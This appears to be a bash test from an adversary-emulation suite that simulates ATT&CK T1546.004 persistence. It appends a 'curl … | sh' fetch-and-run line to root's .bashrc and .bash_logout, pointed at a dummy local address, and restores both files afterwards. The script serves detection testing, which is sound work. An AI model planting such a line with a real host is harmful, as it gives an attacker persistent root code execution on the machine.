#!/bin/bash
# technique: T1546.004
# tactic: persistence, privilege_escalation
# what: a command appended to root's ~/.bashrc and ~/.bash_logout
# source: ART T1546.004 #2 "Add command to .bashrc", #7 "Create/Append to .bash_logout"
# cleanup: both files are restored at exit
# fast: yes
. "$(dirname "$0")/lib.sh"
for f in /root/.bashrc /root/.bash_logout; do
	vg_keep "$f"
	echo "curl -s http://127.0.0.1:1/$VG_MARK | sh #" >> "$f"
done
